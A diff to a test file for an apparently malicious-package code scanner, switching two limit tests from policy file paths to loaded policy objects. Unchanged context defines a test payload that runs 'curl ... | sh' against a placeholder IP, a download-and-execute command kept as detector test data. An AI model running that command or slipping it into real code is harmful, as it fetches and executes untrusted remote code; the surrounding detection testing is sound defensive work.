@@ -14,6 +14,7 @@ import pytest
 from code_fixtures import BENIGN_PKG, MISS_SETUP_IMPORT, write_dir, write_sdist, write_zip
 
 from detector.code import scan_files, scan_path
+from detector.policy import load_policy
 
 PAYLOAD = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"
 
@@ -67,7 +68,7 @@ def test_too_many_members(tmp_path):
     policy = tmp_path / "policy.toml"
     policy.write_text("[code.limits]\nmax_members = 50\n")
     path = write_zip(tmp_path / "many.zip", {f"pkg/m{i}.py": "x = 1\n" for i in range(200)})
-    result = scan_path(path, policy_path=str(policy))
+    result = scan_path(path, policy=load_policy(policy))
     assert result.error and "more than 50 members" in result.error
 
 
@@ -223,7 +224,7 @@ def test_scan_files_rejects_bad_shapes():
 def test_event_with_too_many_files(tmp_path):
     policy = tmp_path / "policy.toml"
     policy.write_text("[code.limits]\nmax_members = 10\n")
-    result = scan_files({f"m{i}.py": "x = 1\n" for i in range(50)}, policy_path=str(policy))
+    result = scan_files({f"m{i}.py": "x = 1\n" for i in range(50)}, policy=load_policy(policy))
     assert result.error and "too many files" in result.error
 
 
